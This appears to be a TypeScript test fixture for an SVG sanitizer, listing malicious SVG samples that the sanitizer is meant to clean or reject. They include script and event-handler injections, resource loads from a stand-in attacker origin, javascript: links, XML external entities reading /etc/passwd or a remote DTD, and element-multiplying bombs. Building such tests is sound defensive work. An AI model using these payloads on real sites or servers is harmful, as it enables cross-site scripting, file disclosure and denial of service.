/** The origin of the attacker. A cleaned SVG must not request anything from it. */
export const EVIL = 'https://evil.test';

const OPEN =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"';
const svg = (content: string, attributes = '') => `${OPEN} ${attributes}>${content}</svg>`;
const RECT = '<rect id="drawn" width="10" height="10" fill="#010203"/>';
const ALERT = 'alert(1)';

/** Attacks that run a script or load an address in a browser, if the SVG is opened without being cleaned. */
export const WORKING: readonly (readonly [string, string])[] = [
  ['a script', svg(`<script>${ALERT}</script>${RECT}`)],
  ['a script in CDATA', svg(`<script><![CDATA[${ALERT}]]></script>${RECT}`)],
  ['a script file', svg(`<script href="${EVIL}/a.js"/>${RECT}`)],
  [
    'a script with another prefix',
    svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">${ALERT}</x:script>${RECT}`),
  ],
  ['a script of HTML', svg(`<script xmlns="http://www.w3.org/1999/xhtml">${ALERT}</script>${RECT}`)],
  ['an event handler', svg(RECT, `onload="${ALERT}"`)],
  ['an event handler with entities', svg(RECT, 'onload="&#97;lert(1)"')],
  [
    'an event handler of an animation',
    svg(`<animate onbegin="${ALERT}" attributeName="x" dur="1s"/>${RECT}`),
  ],
  [
    'foreign content',
    svg(
      `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/a.png"/></foreignObject>${RECT}`,
    ),
  ],
  [
    'a frame',
    svg(
      `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}"/></foreignObject>${RECT}`,
    ),
  ],
  ['an image from elsewhere', svg(`<image href="${EVIL}/a.png" width="9" height="9"/>${RECT}`)],
  ['an image by xlink', svg(`<image xlink:href="${EVIL}/a.png" width="9" height="9"/>${RECT}`)],
  [
    'a filter image',
    svg(
      `<filter id="f"><feImage href="${EVIL}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>${RECT}`,
    ),
  ],
  ['an imported style sheet', svg(`<style>@import "${EVIL}/a.css";</style>${RECT}`)],
  [
    'a font',
    svg(
      `<style>@font-face{font-family:x;src:url(${EVIL}/a.woff)}text{font-family:x}</style><text y="9">a</text>${RECT}`,
    ),
  ],
  [
    'a background in a style sheet',
    svg(RECT, '').replace('<rect', `<style>svg{background:url(${EVIL}/a.png)}</style><rect`),
  ],
  ['a background with an escape', svg(`<style>svg{background:\\75rl(${EVIL}/a.png)}</style>${RECT}`)],
  ['a background in an attribute', svg(RECT, `style="background:url('${EVIL}/a.png')"`)],
  ['a style sheet instruction', `<?xml-stylesheet href="${EVIL}/a.css"?>${svg(RECT)}`],
  ['a mask from elsewhere', svg(`<style>rect{mask-image:url(${EVIL}/a.svg)}</style>${RECT}`)],
  [
    'a style of HTML',
    svg(`<style xmlns="http://www.w3.org/1999/xhtml">@import "${EVIL}/a.css";</style>${RECT}`),
  ],
];

/** Other known attacks, which need a click or another browser, or confuse XML parsers. */
export const OTHERS: readonly (readonly [string, string])[] = [
  ['a script link', svg(`<a href="javascript:${ALERT}">${RECT}</a>`)],
  ['a script link by xlink', svg(`<a xlink:href="javascript:${ALERT}">${RECT}</a>`)],
  ['a script link with white space', svg(`<a href="java&#10;script:${ALERT}">${RECT}</a>`)],
  [
    'a link set by an animation',
    svg(`<a>${RECT}<animate attributeName="href" values="javascript:${ALERT}"/></a>`),
  ],
  ['a link set later', svg(`<a>${RECT}<set attributeName="xlink:href" to="javascript:${ALERT}"/></a>`)],
  [
    'a page in a data URL',
    svg(`<use href="data:image/svg+xml,&lt;svg id='x' onload='${ALERT}'/>#x"/>${RECT}`),
  ],
  ['a drawing from elsewhere', svg(`<use href="${EVIL}/a.svg#x"/>${RECT}`)],
  ['a fill from elsewhere', svg(`<rect fill="url(${EVIL}/a.svg#x)"/>${RECT}`)],
  ['a fill with a comment', svg(`<rect fill="u/**/rl(${EVIL}/a.svg#x)"/>${RECT}`)],
  ['an embedded object', svg(`<embed xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}"/>${RECT}`)],
  [
    'a handler element',
    svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${ALERT}</handler>${RECT}`),
  ],
  ['a base', svg(RECT, `xml:base="${EVIL}/"`)],
  ['an expression', svg(`<rect style="width:expression(${ALERT});-moz-binding:url(${EVIL}/a.xml)"/>${RECT}`)],
  ['a cursor', svg(RECT, `cursor="url(${EVIL}/a.png), auto"`)],
  [
    'markup in a text',
    svg(`<title>&lt;script>${ALERT}&lt;/script></title><style>/*&lt;/style>&lt;script>*/</style>${RECT}`),
  ],
  ['an audio file', svg(`<audio xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/a.ogg"/>${RECT}`)],
  [
    'an image in CSS',
    svg(`<rect style="fill:image(${EVIL}/a.png);fill:image-set('${EVIL}/a.png' 1x)"/>${RECT}`),
  ],
  [
    'a pattern with an image',
    svg(`<pattern id="p" width="1" height="1"><image href="${EVIL}/a.png"/></pattern>${RECT}`),
  ],
];

const bomb = (open: string, close: string) =>
  svg(
    `<defs><g id="a0">${'<rect/>'.repeat(10)}</g>${Array.from(
      { length: 9 },
      (_none, level) => `<g id="a${level + 1}">${open.replaceAll('#', `#a${level}`).repeat(10)}${close}</g>`,
    ).join('')}</defs><use href="#a9"/>`,
  );

/** Documents that are refused as a whole. */
export const REFUSED: readonly (readonly [string, string, RegExp])[] = [
  ['defined entities', `<!DOCTYPE svg [<!ENTITY x "${ALERT}">]>${svg('<script>&x;</script>')}`, /entities/],
  [
    'an entity of a file',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
    /entities/,
  ],
  [
    'entities from elsewhere',
    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${EVIL}/x.dtd">%x;]>${svg(RECT)}`,
    /entities/,
  ],
  ['an unknown entity', svg('<text>&nbsp;</text>'), /well-formed/],
  ['uses that multiply', bomb('<use href="#"/>', ''), /10000 elements/],
  ['masks that multiply', bomb('<rect mask="url(#)"/>', ''), /10000 elements/],
  ['masks in styles that multiply', bomb(`<rect style="fill:red;mask:url('#')"/>`, ''), /10000 elements/],
  ['a second layer of masks that multiplies', bomb('<rect mask="none, url(#)"/>', ''), /10000 elements/],
  [
    'masks before a mask that no browser supports',
    bomb('<rect style="mask:url(#);mask:unknown"/>', ''),
    /10000 elements/,
  ],
  ['a drawing of itself', svg('<g id="a"><use href="#a"/></g>'), /itself/],
  ['a circle of drawings', svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), /itself/],
  [
    'a long chain',
    svg(Array.from({ length: 3000 }, (_none, at) => `<use id="a${at}" href="#a${at + 1}"/>`).join('')),
    /10000 elements/,
  ],
  ['deep nesting', svg(`${'<g>'.repeat(60)}${'</g>'.repeat(60)}`), /50 levels/],
  ['very deep nesting', svg(`${'<g>'.repeat(30_000)}${'</g>'.repeat(30_000)}`), /well-formed|50 levels/],
  ['an HTML page', '<!doctype html><html><body>a</body></html>', /well-formed/],
  ['tags that do not close', svg('<g>').replace('</svg>', ''), /well-formed/],
  ['a second root', `${svg(RECT)}${svg(RECT)}`, /well-formed/],
  ['another root', '<x:svg xmlns:x="http://www.w3.org/2000/svg" viewBox="0 0 1 1"/>', /root must be svg/],
  ['no size', '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>', /viewBox/],
  ['a view box without room', '<svg viewBox="0 0 0 10"/>', /viewBox/],
  ['a view box that is not a number', '<svg viewBox="0 0 NaN Infinity"/>', /viewBox/],
];

export { RECT, svg };
